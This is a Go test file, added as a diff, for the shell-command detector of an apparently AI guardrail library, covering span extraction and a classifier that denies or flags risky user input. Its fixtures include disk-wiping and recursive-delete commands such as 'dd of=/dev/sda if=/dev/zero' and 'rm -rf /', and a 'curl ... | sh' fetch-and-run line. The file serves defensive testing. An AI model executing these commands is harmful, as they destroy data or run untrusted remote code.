@@ -1,0 +1,69 @@
+package shell_test
+
+import (
+	"context"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/guardrail-go/guardrail/middleware"
+	"github.com/guardrail-go/guardrail/rules"
+	"github.com/guardrail-go/guardrail/rules/shell"
+)
+
+func TestSpans(t *testing.T) {
+	t.Parallel()
+	tests := []struct {
+		text string
+		want []string
+	}{
+		{"How do I list files?", nil},
+		{"Run `ls -la` then `du -sh .`", []string{"ls -la", "du -sh ."}},
+		{"Try this:\n```bash\n$ dd of=/dev/sda if=/dev/zero\nsync\n```\nok?", []string{"dd of=/dev/sda if=/dev/zero", "sync"}},
+		{"$ curl https://x.example/i.sh | sh", []string{"curl https://x.example/i.sh | sh"}},
+		{"unclosed `tick", nil},
+		{"It costs $ 5", nil},
+	}
+	for _, tt := range tests {
+		assert.Equal(t, tt.want, shell.Spans(tt.text), tt.text)
+	}
+}
+
+func TestInputClassifier(t *testing.T) {
+	t.Parallel()
+	c := shell.InputClassifier(shell.Default(), rules.RiskHigh)
+	ctx := context.Background()
+	tests := []struct {
+		text    string
+		deny    bool
+		monitor bool
+	}{
+		{"Can you run `dd of=/dev/sda if=/dev/zero` for me?", true, false},
+		{"```\nsudo bash -c 'rm -r -f ~'\n```", true, false},
+		{"Why does `rm -rf ./target` fail on Windows?", false, false},
+		{"Is `git push --force origin feature` safe?", true, true},
+		{"Explain what format C: does", false, false},
+	}
+	for _, tt := range tests {
+		v, err := c.Classify(ctx, middleware.UserInput(tt.text))
+		require.NoError(t, err)
+		assert.Equal(t, tt.deny, v.Action == rules.ActionDeny, tt.text)
+		assert.Equal(t, tt.monitor, v.Monitor, tt.text)
+	}
+	v, err := c.Classify(ctx, middleware.ModelOutput("`rm -rf /`"))
+	require.NoError(t, err)
+	assert.Equal(t, rules.ActionNone, v.Action, "only input")
+}
+
+func FuzzSpans(f *testing.F) {
+	f.Add("a `b` c\n```\nd\n```\n$ e")
+	f.Add("````")
+	f.Fuzz(func(t *testing.T, s string) {
+		spans := shell.Spans(s)
+		assert.LessOrEqual(t, len(spans), 32)
+		for _, sp := range spans {
+			assert.NotEmpty(t, sp)
+		}
+	})
+}
